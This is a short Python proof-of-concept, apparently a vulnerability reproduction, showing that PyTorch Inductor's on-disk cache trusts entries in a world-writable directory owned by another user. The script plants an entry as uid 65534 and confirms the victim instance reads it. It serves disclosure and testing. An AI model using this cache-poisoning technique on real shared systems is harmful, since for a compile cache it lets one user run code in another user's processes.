"""_OnDiskCacheImpl uses a directory that another user owns and everyone can write, and returns
the entries it finds there as genuine. Here the cache directory belongs to uid 65534 (nobody)
with mode 0o777, a process running as that user inserts an entry, and the victim's fresh
instance gets the planted bytes (and inserts into the directory too). torch's default
directory is per user (<tempdir>/torchinductor_<user>/cache) but nothing checks its owner or
mode, so whoever creates or can write that directory first decides what the victim reads (for
a compile cache, code it runs); the version header guards against stale formats, not forgery.
Needs root (to chown).
"""
import os
import tempfile
from pathlib import Path

from torch._inductor.runtime.caching.implementations import _OnDiskCacheImpl

NOBODY = 65534
if os.geteuid() != 0:
    raise SystemExit("run as root: building another user's directory needs chown")
with tempfile.TemporaryDirectory() as tmp:
    os.chmod(tmp, 0o755)
    shared = Path(tmp, "cache")
    shared.mkdir()
    os.chown(shared, NOBODY, NOBODY)
    os.chmod(shared, 0o777)
    pid = os.fork()
    if pid == 0:  # the other user plants an entry
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        os._exit(0 if _OnDiskCacheImpl(shared).insert("key", b"planted by uid 65534") else 1)
    assert os.waitpid(pid, 0)[1] == 0, "the other user could not plant the entry"
    victim = _OnDiskCacheImpl(shared)  # an absolute sub_dir replaces torch's default directory
    got = victim.get("key")
    print(f"directory owner uid {shared.stat().st_uid}, mode {oct(shared.stat().st_mode & 0o777)}")
    print("victim get('key') ->", got, "; insert('other') ->", victim.insert("other", b"1"))
    if got is not None and got.value == b"planted by uid 65534":
        print("DEVIATION REPRODUCED")
        raise SystemExit(0)
raise SystemExit(1)
